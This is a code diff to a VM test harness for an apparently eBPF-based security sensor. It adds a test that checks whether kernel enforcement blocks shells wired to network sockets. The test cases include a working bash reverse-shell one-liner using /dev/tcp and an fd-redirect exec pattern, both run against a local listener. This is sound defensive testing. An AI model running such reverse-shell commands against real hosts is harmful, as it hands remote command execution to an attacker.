@@ -7,7 +7,7 @@
  */
 import { spawn, spawnSync } from "node:child_process";
 import dgram from "node:dgram";
-import { readFileSync, writeFileSync } from "node:fs";
+import { readFileSync, statSync, writeFileSync } from "node:fs";
 import net from "node:net";
 import os from "node:os";
 import {
@@ -20,6 +20,8 @@ import {
   probe,
   // @ts-expect-error -- dist/ sits beside this file only in the guest's package root (/sockeye)
 } from "./dist/index.js";
+// @ts-expect-error -- as above: the same interpreter list the daemon hands the kernel path
+import { findKernelInterpreters, kernelDev } from "./dist/enforce/interpreters.js";
 
 const BEGIN = "===SOCKEYE-VM-RESULTS-BEGIN===";
 const END = "===SOCKEYE-VM-RESULTS-END===";
@@ -430,11 +432,122 @@ async function main() {
   out.durationMs = Date.now() - t0;
 }
 
+/**
+ * A loopback listener that sends `id` to its first connection and counts every byte that comes
+ * back in the 2 s after ("bytes leaked", as test/kernel/enforce.test.ts measures it).
+ * `leaked()` resolves with the count, or with null when nothing connected within `waitMs`.
+ */
+async function idListener(waitMs) {
+  const sockets = new Set();
+  /** @type {(n: number | null) => void} */
+  let done = () => {};
+  const result = new Promise((resolve) => (done = resolve));
+  const server = net.createServer((s) => {
+    sockets.add(s);
+    s.on("error", () => {});
+    if (sockets.size > 1) return;
+    let bytes = 0;
+    s.on("data", (d) => (bytes += d.length));
+    s.write("id\n");
+    setTimeout(() => done(bytes), 2000);
+  });
+  await /** @type {Promise<void>} */ (new Promise((resolve) => server.listen(0, "127.0.0.1", resolve)));
+  const timer = setTimeout(() => done(null), waitMs);
+  return {
+    port: /** @type {net.AddressInfo} */ (server.address()).port,
+    leaked: async () => {
+      const n = await result;
+      clearTimeout(timer);
+      return n;
+    },
+    close: () => /** @type {Promise<void>} */ (new Promise((resolve) => {
+      for (const s of sockets) s.destroy();
+      server.close(() => resolve());
+    })),
+  };
+}
+
+/**
+ * Enforcement's kernel path (bpf/enforce.bpf.c, docs/enforcement.md), after every other case
+ * so a failure here hides none of them: a second sensor opened with `enforce: true` and the
+ * interpreters the daemon would hand it; each case against a listener that sends `id` and
+ * counts the bytes that come back. Which enforce candidate is live (LSM deny or signal) is in
+ * `programs`; the counts are the programs' own (`enforceActions()`), taken around each case.
+ * Then the same shapes with the sensor closed: they run and answer (nothing enforces without
+ * the sensor, and the listener does count what a shell sends).
+ */
+async function enforcement() {
+  const ip = "127.0.0.1";
+  // The daemon's folders plus /bb, where the guest keeps busybox's applet links: on a busybox
+  // host /bin/sh is such a link, and the file it leads to is known by its inode. That matters
+  // where the BPF LSM judges the exec: bprm_check_security names the file opened (after
+  // links: "busybox"), not the name exec'd ("sh", what comm becomes and what the signal path
+  // at sched_process_exec reads), so without the inode /bb/sh is not denied there (measured:
+  // 24 bytes leaked on 6.1's LSM boot).
+  const interpreters = findKernelInterpreters(["/bin", "/usr/bin", "/usr/local/bin", "/sbin", "/usr/sbin", "/usr/local/sbin", "/bb"]);
+  const identity = (path) => {
+    const st = statSync(path, { bigint: true });
+    return `${kernelDev(st.dev)}:${st.ino}`;
+  };
+  const exeKeys = new Set(interpreters.exes.map((x) => x.join(":")));
+  /** @type {Record<string, any>} */
+  const e = {
+    interpreters: {
+      names: interpreters.names.filter((n) => ["bash", "sh", "busybox"].includes(n)),
+      exes: interpreters.exes.length,
+      byInode: { bash: exeKeys.has(identity(BASH)), busybox: exeKeys.has(identity(SH)) },
+    },
+    programs: null, cases: [], afterClose: [], totals: null, error: null,
+  };
+  out.enforce = e;
+  const cases = [
+    // The direct exec shape: the socket of a connect on fd 0 on stdin and stdout, then exec.
+    ["exec-bash", (p) => [HELPER, "connect-fd0-exec", ip, String(p), BASH]],
+    ["exec-sh", (p) => [HELPER, "connect-fd0-exec", ip, String(p), SH]],
+    // The dup shape inside a running bash: the dup2 onto fd 1 completes it.
+    ["dup-bash", (p) => [BASH, "-c", `exec 3<>/dev/tcp/${ip}/${p}; exec 0<&3 1>&3 2>&3; while read -r line; do $line; done`]],
+  ];
+  /** One case; `counts` reads the programs' counters (null: the sensor is closed). */
+  const attempt = async (name, build, counts) => {
+    const l = await idListener(15_000);
+    const before = counts?.();
+    const started = Date.now();
+    const [cmd, ...args] = build(l.port);
+    // The shell that runs ends when the listener hangs up: run and listener go together.
+    const exited = run(cmd, args);
+    const leaked = await l.leaked();
+    await l.close();
+    const r = await exited;
+    const after = counts?.();
+    return {
+      name, port: l.port, command: [cmd, ...args], status: r.status, signal: r.signal, stderr: r.stderr, durationMs: Date.now() - started,
+      connected: leaked !== null, leaked: leaked ?? 0,
+      ...(before && after ? { actions: Object.fromEntries(Object.keys(after).map((k) => [k, after[k] - before[k]])) } : {}),
+    };
+  };
+  const sensor = openSensorSync({ enforce: true, enforceNames: interpreters.names, enforceExes: interpreters.exes });
+  try {
+    e.programs = sensor.programs.filter((x) => x.capability === "enforce");
+    sensor.subscribe(() => {});
+    for (const [name, build] of cases) e.cases.push(await attempt(name, build, () => sensor.enforceActions()));
+    e.totals = sensor.enforceActions();
+  } finally {
+    await sensor.close();
+  }
+  for (const [name, build] of cases) e.afterClose.push(await attempt(name, build, null));
+}
+
 try {
   await main();
 } catch (err) {
   const e = /** @type {{ message?: string, code?: string } | undefined} */ (err);
   out.error = { message: e?.message ?? String(err), code: e?.code ?? null };
+}
+try {
+  await enforcement();
+} catch (err) {
+  const e = /** @type {{ message?: string, code?: string } | undefined} */ (err);
+  out.enforce = { ...(out.enforce ?? {}), error: { message: e?.message ?? String(err), code: e?.code ?? null } };
 }
 out.uptimeAtExit = uptime();
 process.stdout.write(`\n${BEGIN}\n${JSON.stringify(out)}\n${END}\n`);
